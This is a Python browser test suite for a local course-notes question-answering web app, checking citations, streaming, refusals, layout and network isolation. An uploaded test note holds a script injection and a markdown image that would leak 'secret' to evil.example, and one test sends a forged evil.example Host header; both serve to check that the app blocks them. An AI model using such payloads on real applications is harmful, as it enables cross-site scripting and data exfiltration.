"""The web app through a real Chromium: a real server process, the real models, a small library."""

from __future__ import annotations

import os
import re
import select
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]
AUDIT = Path(__file__).parent / "audit"
CHROMIUM = shutil.which("chromium")
ARGUMENTS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
    "--disable-sync", "--no-first-run",
]  # fmt: skip
ANSWER_MS = 90_000
OWLS = """# The snowy owl

The snowy owl of the observatory is called Cassiopeia. Cassiopeia weighs 2.1 kg and was ringed in 2019.

She eats <script>document.title = 'broken into'</script> lemmings ![leak](http://evil.example/?q=secret) and voles.
"""


class Server:
    """A running `lectern chat` and where its sockets are written down."""

    def __init__(self, library: Path, log: Path, *options: str, **settings: str) -> None:
        self.log = log
        environ = os.environ | {
            "PYTHONPATH": os.pathsep.join([str(AUDIT), str(ROOT)]),
            "SOCKET_LOG_OF_TESTS": str(log),
            **settings,
        }
        command = [
            sys.executable,
            "-m",
            "ui.cli",
            "chat",
            "--port",
            "0",
            "--no-browser",
            "--library",
            library,
        ]
        command += options
        self.process = subprocess.Popen(command, env=environ, stderr=subprocess.PIPE, text=True, cwd=ROOT)
        self.address = self._address()

    def _address(self, seconds: float = 120) -> str:
        stderr = self.process.stderr
        assert stderr is not None
        said = ""
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            if not select.select([stderr], [], [], 1.0)[0]:
                continue
            line = stderr.readline()
            said += line
            if found := re.search(r"http://\S+", line):
                return found.group()
            assert line, f"the server ended: {said}"
        raise AssertionError(f"no address after {seconds} s: {said}")

    def close(self) -> None:
        self.process.terminate()
        self.process.wait(20)


@pytest.fixture(scope="module")
def library(course_library: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the course's library that these tests may change."""
    copy = tmp_path_factory.mktemp("web") / "library"
    shutil.copytree(course_library, copy)
    return copy


@pytest.fixture(scope="module")
def server(library: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    log = tmp_path_factory.mktemp("sockets") / "chat.txt"
    log.touch()
    running = Server(library, log)
    yield running
    running.close()


@pytest.fixture(scope="module")
def talker(library: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server whose model lacks the adapter that keeps it short and the guesses that make it quick.

    It can be watched, and interrupted, while it talks.
    """
    log = tmp_path_factory.mktemp("sockets") / "talker.txt"
    log.touch()
    running = Server(library, log, "--adapter", "none", LECTERN_MODEL__LOOKUP_TOKENS="0")
    yield running
    running.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if CHROMIUM is None:
        pytest.skip("needs chromium")
    playwright = pytest.importorskip("playwright.sync_api")
    with playwright.sync_playwright() as driver:
        running = driver.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield running
        running.close()


class Visit:
    """A tab on the page, with every complaint of the browser and every address it asked for."""

    def __init__(self, browser: Browser, address: str, width: int = 1280, height: int = 800) -> None:
        context = browser.new_context(viewport={"width": width, "height": height})
        self.page: Page = context.new_page()
        self.complaints: list[str] = []
        self.foreign: list[str] = []
        self.page.on("console", lambda m: self.complaints.append(m.text) if m.type == "error" else None)
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("request", lambda request: self._saw(request.url))
        self.page.goto(address)
        self.page.wait_for_selector(".welcome, .exchange")

    def _saw(self, url: str) -> None:
        if not url.startswith(("http://127.0.0.1:", "data:", "blob:")):
            self.foreign.append(url)

    def ask(self, question: str) -> None:
        self.page.get_by_role("textbox", name="Question").fill(question)
        self.page.keyboard.press("Enter")

    def answered(self, question: str) -> None:
        self.ask(question)
        self.page.wait_for_selector(
            f".exchange.answered:last-of-type:has-text('{question}')", timeout=ANSWER_MS
        )

    def close(self) -> None:
        self.page.context.close()
        assert self.foreign == []
        assert self.complaints == []


@pytest.fixture
def visit(browser: Browser, server: Server) -> Iterator[Visit]:
    opened = Visit(browser, server.address)
    yield opened
    opened.close()


@pytest.fixture
def owls(visit: Visit, tmp_path: Path) -> Visit:
    """The visit after a note was uploaded."""
    note = tmp_path / "owls.md"
    note.write_text(OWLS, encoding="utf-8")
    broken = tmp_path / "broken.ipynb"
    broken.write_text("{", encoding="utf-8")
    visit.page.get_by_role("tab", name="Notes").click()
    visit.page.locator("#upload input[type=file]").set_input_files([note, broken])
    visit.page.wait_for_selector(".report:has-text('broken.ipynb')", timeout=60_000)
    visit.page.wait_for_selector(".library .path:has-text('owls.md')")
    visit.page.get_by_role("tab", name="Ask").click()
    return visit


def test_from_a_note_to_a_cited_answer_and_back_after_a_reload(owls: Visit, library: Path) -> None:
    page = owls.page
    assert (library / "uploads" / "owls.md").read_text(encoding="utf-8") == OWLS
    owls.answered("What is the snowy owl of the observatory called?")
    assert "Cassiopeia" in page.locator(".answer").inner_text()
    assert page.locator(".verdict").first.inner_text().strip(" ✓!")
    announced = page.get_by_role("status").filter(has_text="Cassiopeia")
    assert announced.get_attribute("aria-live") == "polite"

    cite = page.locator(".answer .cite").first
    number = cite.get_attribute("data-n")
    cite.focus()
    page.keyboard.press("Enter")
    page.wait_for_selector(f".source.current[open]:has(.number:text-is('{number}'))")
    assert page.evaluate("document.activeElement.className") == "passage"
    mark = page.locator(".source.current mark").first
    assert "Cassiopeia" in mark.inner_text()
    box = mark.bounding_box()
    assert box is not None
    assert 0 < box["y"] < 800
    page.get_by_role("button", name="Back to the answer").first.click()
    assert page.evaluate("document.activeElement.className") == "cite"

    assert "<script>document.title" in page.locator(".sources").inner_text()
    assert page.title() == "Lectern"
    assert page.locator(".sources :is(script, img)").count() == 0

    page.reload()
    page.wait_for_selector(".exchange.answered")
    assert "Cassiopeia" in page.locator(".answer").inner_text()
    assert page.locator(".conversations [aria-current]").inner_text().startswith("What is the snowy owl")
    assert page.locator(".source mark").count() >= 1

    with page.expect_download() as download:
        page.get_by_role("link", name="Save as Markdown").click()
    text = download.value.path().read_text(encoding="utf-8")
    assert text.startswith("# What is the snowy owl of the observatory called?")
    assert "owls.md ›" in text

    page.get_by_text("Was this right?").click()
    page.get_by_role("button", name="Wrong source").click()
    page.wait_for_selector("[data-verdict='wrong source'][aria-pressed=true]", state="attached")


def test_passages_come_before_words_words_stream_and_escape_stops_them(
    browser: Browser, talker: Server
) -> None:
    visit = Visit(browser, talker.address)
    page = visit.page
    page.evaluate(
        """() => { window.seen = []; new MutationObserver(() => {
             const words = document.querySelector('.answer[aria-busy]:has(.caret)')?.textContent.length ?? 0;
             if (words !== seen.at(-1)?.words) seen.push({ words, sources: document.querySelectorAll('.source').length });
           }).observe(document.body, { childList: true, subtree: true, characterData: true }); }"""
    )
    visit.ask("Explain in detail how jitter of the sampling clock limits the signal-to-noise ratio.")
    page.wait_for_function("window.seen.length >= 4", timeout=ANSWER_MS)
    page.keyboard.press("Escape")
    page.wait_for_selector(".exchange.stopped", timeout=3_000)
    seen = page.evaluate("window.seen")
    lengths = [state["words"] for state in seen if state["words"]]
    assert lengths == sorted(lengths)
    assert len(set(lengths)) >= 3
    assert all(state["sources"] for state in seen if state["words"])
    assert "Stopped." in page.locator(".answer").inner_text()
    assert page.get_by_role("button", name="Ask", exact=True).is_visible()
    stopped = page.locator(".answer").inner_text()
    time.sleep(0.5)
    assert page.locator(".answer").inner_text() == stopped
    page.get_by_role("button", name="Ask again").click()
    page.wait_for_selector(".exchange.answered", timeout=ANSWER_MS)
    assert page.locator(".exchange").count() == 1
    visit.close()


def test_a_question_the_course_cannot_answer_is_refused_with_the_nearest_passages(visit: Visit) -> None:
    visit.page.get_by_role("button", name="New conversation").click()
    visit.answered("Who won the football world cup in 1954?")
    assert "The notes do not say." in visit.page.locator(".answer.abstained").inner_text()
    assert visit.page.locator(".source").count() > 0


def test_formulas_are_drawn_with_the_bundled_katex(visit: Visit) -> None:
    visit.page.get_by_role("button", name="New conversation").click()
    visit.answered("How fast must a signal that is band-limited to B be sampled?")
    visit.page.wait_for_selector(".source lectern-math", state="attached")
    drawn = "[...document.querySelectorAll('lectern-math')].every((m) => m.shadowRoot?.querySelector('.katex-html'))"
    assert visit.page.evaluate(drawn)


def test_two_people_at_once(browser: Browser, server: Server) -> None:
    first, second = Visit(browser, server.address), Visit(browser, server.address)
    first.ask("What is aliasing?")
    second.ask("What is quantisation?")
    for tab, words in ((first, "What is aliasing?"), (second, "What is quantisation?")):
        tab.page.wait_for_selector(".exchange.answered", timeout=2 * ANSWER_MS)
        assert tab.page.locator(".question").inner_text().endswith(words)
        assert tab.page.locator(".exchange").count() == 1
        tab.close()


def test_a_phone_sees_everything_without_scrolling_sideways(browser: Browser, server: Server) -> None:
    phone = Visit(browser, server.address, 390, 844)
    phone.page.get_by_role("button", name="New conversation").click()
    phone.page.locator(".scope summary").click()
    for name in ("lesson-01-sampling.md", "notebook-02-temperature-log.ipynb"):
        phone.page.get_by_role("button", name=re.compile(f"^{name}")).click()
    phone.page.wait_for_selector(".scope.limited:has-text('and 1 more')")
    chosen = phone.page.locator(".scope details > div").bounding_box()
    assert chosen is not None
    assert chosen["x"] >= 0
    assert chosen["x"] + chosen["width"] <= 390
    phone.answered("What is the Nyquist rate?")
    assert not phone.page.locator(".scope details[open]").count()
    assert phone.page.evaluate("document.documentElement.scrollWidth") == 390
    wide = "[...document.querySelectorAll('#desk *')].filter((e) => !e.closest('pre, lectern-math, .conversations'))"
    assert phone.page.evaluate(wide + ".filter((e) => e.getBoundingClientRect().right > 391).length") == 0
    for name in ("Ask", "New conversation"):
        assert phone.page.get_by_role("button", name=name, exact=True).is_visible()
    phone.close()


def test_a_note_can_be_taken_out(owls: Visit, library: Path) -> None:
    page = owls.page
    page.get_by_role("tab", name="Notes").click()
    row = page.locator(".library tr:has-text('owls.md')")
    row.locator("summary").click()
    row.get_by_role("button", name="Yes, take it out").click()
    page.wait_for_selector(".library tr:has-text('owls.md')", state="detached")
    assert not (library / "uploads" / "owls.md").exists()


def test_a_folder_is_added_by_its_path(visit: Visit, tmp_path: Path) -> None:
    (tmp_path / "course").mkdir()
    (tmp_path / "course" / "finch.txt").write_text("Finches sing in the morning.", encoding="utf-8")
    page = visit.page
    page.get_by_role("tab", name="Notes").click()
    folder = page.get_by_role("textbox", name="A folder on this machine")
    folder.fill(str(tmp_path / "nowhere"))
    page.get_by_role("button", name="Add the folder").click()
    page.wait_for_selector(".report.problem:has-text('is not there')")
    folder.fill(str(tmp_path / "course"))
    page.get_by_role("button", name="Add the folder").click()
    page.wait_for_selector(".library .path:has-text('finch.txt')", timeout=60_000)


def test_the_adapter_is_switched_off_and_on_with_the_keyboard(visit: Visit) -> None:
    page = visit.page
    for name in ("none", "embedded-grounded"):
        page.wait_for_selector(".status.ready", timeout=ANSWER_MS)
        page.locator(".adapters summary").focus()
        page.keyboard.press("Enter")
        page.get_by_role("button", name=re.compile(f"^{name}")).focus()
        page.keyboard.press("Enter")
        page.wait_for_selector(".status.loading:has-text('loading the model')")
        page.wait_for_selector(f".adapters:not([open]) summary:has-text('{name}')", timeout=ANSWER_MS)
        page.wait_for_function("document.activeElement.matches('.adapters summary')", timeout=5_000)
        page.locator(".adapters summary").press("Enter")
        assert page.get_by_role("button", pressed=True).inner_text().startswith(name)
        page.keyboard.press("Escape")
        page.wait_for_selector(".adapters:not([open])")


def test_who_comes_back_to_a_tab_sees_the_adapter_that_another_one_chose(
    browser: Browser, server: Server
) -> None:
    here, there = Visit(browser, server.address), Visit(browser, server.address)
    for name in ("none", "embedded-grounded"):
        for tab in (here, there):
            tab.page.wait_for_selector(".status.ready", timeout=ANSWER_MS)
        there.page.locator(".adapters summary").click()
        there.page.get_by_role("button", name=re.compile(f"^{name}")).click()
        there.page.wait_for_selector(f".adapters summary:has-text('{name}')", timeout=ANSWER_MS)
        assert name not in here.page.locator(".adapters summary").inner_text()
        here.page.evaluate("dispatchEvent(new Event('focus'))")  # Playwright's pages never lose the real one
        here.page.wait_for_selector(f".adapters summary:has-text('{name}')", timeout=5_000)
    here.close()
    there.close()


def test_a_question_is_kept_to_a_part_of_the_notes_with_the_keyboard(visit: Visit) -> None:
    page = visit.page
    page.get_by_role("button", name="New conversation").click()
    page.wait_for_selector(".welcome")
    summary = page.locator(".scope summary")
    assert summary.inner_text() == "About: all notes"
    summary.focus()
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    page.keyboard.type("quantis")
    page.wait_for_function("document.querySelectorAll('.scope li:not([hidden])').length === 1")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    lesson = page.get_by_role("button", name=re.compile("^lesson-02"), pressed=True)
    lesson.wait_for()
    assert lesson.evaluate("(button) => button === document.activeElement")
    assert page.locator(".scope li:not([hidden])").count() == 1
    page.keyboard.press("Escape")
    page.wait_for_selector(".scope.limited details:not([open])")
    assert summary.inner_text() == "Only about: lesson-02-quantisation.md"
    assert summary.evaluate("(summary) => summary === document.activeElement")

    visit.answered("What is the Nyquist rate?")
    assert page.locator(".asked-of").inner_text() == "Asked about: lesson-02-quantisation.md"
    found = {text.partition(" › ")[0] for text in page.locator(".source .document").all_inner_texts()}
    assert found == {"lesson-02-quantisation.md"}

    page.reload()
    page.wait_for_selector(".scope.limited:has-text('lesson-02-quantisation.md')")
    page.get_by_role("button", name="New conversation").click()
    page.wait_for_selector(".scope:not(.limited)")
    page.locator(".conversations .open").first.click()
    page.wait_for_selector(".scope.limited")
    page.get_by_role("button", name="Ask all notes").press("Enter")
    page.wait_for_selector(".scope:not(.limited)")
    assert summary.evaluate("(summary) => summary === document.activeElement")
    page.get_by_role("button", name="Ask again").click()
    page.wait_for_selector(".exchange.answered:not(:has(.asked-of))", timeout=ANSWER_MS)
    assert "lesson-01-sampling.md" in page.locator(".source .document").all_inner_texts()


def test_a_server_stopped_under_an_open_page_says_nothing_of_it(
    browser: Browser, library: Path, tmp_path: Path
) -> None:
    log = tmp_path / "sockets.txt"
    log.touch()
    stopped = Server(library, log)
    page = Visit(browser, stopped.address).page
    stopped.close()
    assert stopped.process.stderr is not None
    assert stopped.process.stderr.read() == ""
    page.context.close()


def test_a_busy_port_is_one_sentence(server: Server, tmp_path: Path) -> None:
    port = server.address.rpartition(":")[2]
    command = [
        sys.executable,
        "-m",
        "ui.cli",
        "chat",
        "--port",
        port,
        "--no-browser",
        "--library",
        str(tmp_path),
    ]
    result = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False, timeout=120)
    assert result.returncode == 1
    assert f"Port {port} on 127.0.0.1 is in use" in result.stderr
    assert "--port" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_foreign_page_cannot_reach_the_server(server: Server) -> None:
    host, port = server.address.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port))) as connection:
        connection.sendall(b"GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
        assert connection.recv(64).startswith(b"HTTP/1.1 421")


def test_the_servers_opened_no_socket_outside_the_loopback(server: Server, talker: Server) -> None:
    seen = [line for each in (server, talker) for line in each.log.read_text(encoding="utf-8").splitlines()]
    assert [line for line in seen if "127.0.0.1" not in line and "::1" not in line] == []
